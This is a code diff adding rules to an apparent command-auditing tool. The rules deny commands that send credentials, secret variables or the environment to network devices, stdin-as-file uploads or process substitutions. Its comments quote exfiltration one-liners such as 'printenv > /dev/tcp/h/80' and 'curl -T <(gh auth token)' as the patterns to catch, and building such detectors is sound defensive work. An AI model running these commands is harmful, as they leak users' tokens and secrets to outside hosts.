@@ -9,7 +9,8 @@ import { historySearch, secretSearch } from "../flows/secret-search.js";
 import { networkSink, type NetworkSink } from "../flows/network-sinks.js";
 import { carriesSecret, secretSources } from "../flows/secret-names.js";
 import { isServiceHost, serviceOf } from "../flows/services.js";
-import type { DataSource, Field, Invocation, Provenance } from "../model.js";
+import { provenance, type DataSource, type Field, type Invocation, type Provenance } from "../model.js";
+import { withSecrets } from "../flows/secret-output.js";
 import { classifyPath, resolve } from "../targets/classify-path.js";
 import { secretsHolder } from "../../security-audit/secret-ancestors.js";
 import { pathContext, shown, via } from "./helpers.js";
@@ -68,10 +69,28 @@ export const secretFlowRules: RuleSet = {
     if (mounts.length > 0) return containerMounts(invocation, mounts, context);
     return unknownConsumer(invocation, context);
   },
+  redirect(redirect, invocation) {
+    return invocation && NETWORK_DEVICE.test(redirect.target.value ?? "") && (redirect.op.startsWith(">") || redirect.op.startsWith("&>")) ? deviceHits(invocation, redirect.target.value as string) : [];
+  },
   transcript(output) {
     return transcriptHits(output);
   },
 };
+
+/** bash's network pseudo-devices: writing there sends the data to the host and port. */
+const NETWORK_DEVICE = /^\/dev\/(?:tcp|udp)\/[^/]+\/[^/]+$/;
+
+/** A credential, a secret variable or the environment printed, or read from the input, and written to a network device (`printenv > /dev/tcp/h/80`). */
+function deviceHits(invocation: Invocation, target: string): Hit[] {
+  const printed = withSecrets(invocation, { provenance: provenance({}), description: "" }).provenance;
+  const origin = carriesSecret(printed) ? printed : invocation.stdin && carriesSecret(invocation.stdin.provenance) ? invocation.stdin.provenance : undefined;
+  if (!origin) return [];
+  const what = origin.environment?.length ? `the environment (${origin.environment.join(", ")})` : secretSources(origin).map((source) => (source.startsWith("$") ? `the secret ${source}` : `a credential from \`${source}\``)).slice(0, 2).join(", ");
+  return [{ rule: "secrets.send-credential", decision: "deny", reason: `${shown(invocation)} writes ${what} to ${target}, a network connection${via(invocation)}` }];
+}
+
+/** Files that are the command's standard input. */
+const STDIN_FILE = /^(?:\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/;
 
 function cwdOf(invocation: Invocation, context: RuleContext): string | undefined {
   return invocation.cwd.known ? invocation.cwd.path : context.initialCwd;
@@ -91,6 +110,12 @@ function sinkHits(invocation: Invocation, sink: NetworkSink, context: RuleContex
     if (hit) hits.push(hit);
   }
   for (const file of sink.files) {
+    // The input named as a file (`scp /dev/stdin host:…`, `curl -T /dev/fd/0 …`).
+    if (!sink.sendsStdin && stdin && STDIN_FILE.test(file.value ?? "") && carriesSecret(stdin.provenance)) {
+      const hit = flowHit(invocation, sink, stdin.provenance, false, file.text);
+      if (hit) hits.push(hit);
+      continue;
+    }
     // A process substitution's output sent as a file (`gh gist create <(env)`, `curl -T <(gh auth token) …`).
     const substituted = file.process?.direction === "in" ? file.process.provenance : undefined;
     if (substituted && carriesSecret(substituted)) {
